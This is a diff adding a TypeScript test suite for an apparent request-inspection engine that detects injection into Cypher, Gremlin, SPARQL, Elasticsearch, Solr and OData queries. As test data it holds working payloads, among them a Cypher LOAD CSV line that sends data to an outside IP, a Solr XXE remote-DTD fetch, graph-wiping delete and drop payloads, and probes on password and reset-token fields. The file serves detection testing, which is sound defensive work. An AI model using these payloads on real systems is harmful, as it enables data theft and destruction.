@@ -1,0 +1,58 @@
+import { InspectedValue, inspectValue } from '@/runtime/analyzer/engine/detection';
+import { queryLanguagePack } from '@/runtime/analyzer/engine/detection/rules/query-languages';
+import type { ValueLocation } from '@/runtime/analyzer/engine/detection/types';
+
+const ids = (value: string, name = 'q', location: ValueLocation = 'query'): number[] =>
+  inspectValue(new InspectedValue(location, name, value), [queryLanguagePack]).map((r) => r.id);
+
+describe('query languages besides SQL and MongoDB', () => {
+  it.each<[string, string, string, number]>([
+    ['Cypher tautology into RETURN', 'name', "' OR 1=1 RETURN p//", 900110],
+    ['Cypher map literal closed into MATCH', 'username', "a'}) MATCH (u:User) RETURN u.email //", 900110],
+    [
+      'Cypher LOAD CSV exfiltration',
+      'name',
+      "x' WITH 1 AS a CALL db.labels() YIELD label LOAD CSV FROM 'http://198.51.100.66/?'+label AS b RETURN b//",
+      900110,
+    ],
+    ['Cypher DETACH DELETE', 'id', '12 OR 1=1 DETACH DELETE n //', 900110],
+    ['Gremlin drop', 'name', "x').V().drop().iterate();g.V().has('name','x", 900111],
+    ['Gremlin property dump', 'name', "x').or().V().hasLabel('user').valueMap('email','password')", 900111],
+    ['SPARQL UNION', 'name', 'Alice" } UNION { ?s ?p ?o } #', 900112],
+    ['SPARQL update', 'name', 'Bob" } ; INSERT DATA { <urn:u:bob> <urn:p:role> "admin" } #', 900112],
+    ['Elasticsearch DSL breakout', 'q', 'phone"}},{"match_all":{}}],"should":[{"match":{"x":"', 900113],
+    ['Solr XML query parser (XXE)', 'q', '{!xmlparser v=\'<!DOCTYPE a SYSTEM "http://203.0.113.5/x.dtd"><a/>\'}', 900113],
+    ['Solr cross-core join', 'q', '{!join from=id to=id fromIndex=users}password:*', 900113],
+    ['OData tautology', '$filter', 'CustomerId eq 123 or true', 100120],
+    ['OData eq/ne tautology', '$filter', "BusinessPartner eq '1' or BusinessPartner ne '1'", 100120],
+    ['OData string breakout', 'term', "a') or (1 eq 1", 100120],
+  ])('%s', (_label, name, value, id) => {
+    expect(ids(value, name)).toContain(id);
+  });
+
+  it('reads a filter lookup or search on a secret field, by name or in search syntax', () => {
+    expect(ids('pbkdf2_sha256$600000$a', 'created_by__user__password__startswith')).toContain(100121);
+    expect(ids('^9f', 'password_reset_tokens__token__regex', 'body_json')).toContain(100121);
+    expect(ids('a3', 'q[reset_password_token_start]')).toContain(100121);
+    expect(ids('a', 'where.resetToken.startsWith', 'body_json')).toContain(100121);
+    expect(ids('username:admin AND reset_token:a*')).toContain(100121);
+    expect(ids("startswith(PasswordHash,'$2a$10$Q') eq true", '$filter')).toContain(100121);
+    expect(ids('Manager($expand=Reports($expand=Manager($expand=Reports($expand=Manager($expand=Reports($expand=Manager)))))))', '$expand')).toContain(100122);
+  });
+
+  it.each<[string, string]>([
+    ['$filter', "Status eq 'Open' and Priority ge 2"],
+    ['$filter', "startswith(CompanyName,'Al') or Country eq 'DE'"],
+    ['q', 'title:"quarterly report" AND author:smith*'],
+    ['q', 'Rock and roll or jazz'],
+    ['name', "O'Brien"],
+    ['password', 'correct horse battery staple'],
+    ['password_confirmation', 'hunter2'],
+    ['filters[title][$containsi]', 'shirt'],
+    ['q', '{"match":{"title":"phone"}}'],
+    ['comment', 'Great read — the "graph" chapter (p. 12) was my favourite :)'],
+    ['$expand', 'Orders($expand=Items)'],
+  ])('leaves %s=%s alone', (name, value) => {
+    expect(ids(value, name)).toEqual([]);
+  });
+});
